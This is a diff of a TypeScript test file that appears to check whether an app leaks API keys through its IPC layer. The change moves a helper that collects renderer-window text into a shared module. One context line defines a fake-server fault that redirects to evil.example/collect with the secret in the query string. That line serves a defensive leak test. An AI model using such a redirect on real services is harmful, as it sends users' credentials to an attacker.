@@ -5,7 +5,7 @@
 import { afterEach, describe, expect, it } from 'vitest';
 import type { Fault, FakeLlmOptions } from '../../support/fake-providers/index.js';
 import { startRequestShapedLlm, type FakeServer } from '../../support/fake-providers/index.js';
-import { createIpcHarness, decodeWire, type IpcHarness, type RendererWindow } from '../../support/ipc-harness.js';
+import { createIpcHarness, type IpcHarness, windowText } from '../../support/ipc-harness.js';
 import { echoedForms, findKeyForms } from '../../support/key-forms.js';
 import { recordTestSecret } from '../../support/suite-diagnostics.js';
 import { expectAppError } from '../../support/app-error-assertions.js';
@@ -38,22 +38,6 @@ function faultFor(mode: Mode, value: string): Fault | undefined {
     case 'redirect-query':
       return { type: 'redirect', status: 307, location: `https://evil.example/collect?k=${encodeURIComponent(value)}` };
   }
-}
-
-function windowText(w: RendererWindow): string {
-  const strings: string[] = [];
-  const walk = (value: unknown): void => {
-    if (typeof value === 'string') {
-      strings.push(value);
-      try {
-        walk(JSON.parse(value));
-      } catch {
-        // not JSON
-      }
-    } else if (value && typeof value === 'object') for (const v of Object.values(value)) walk(v);
-  };
-  for (const message of w.received) walk(decodeWire(message));
-  return strings.join('\n');
 }
 
 let h: IpcHarness;
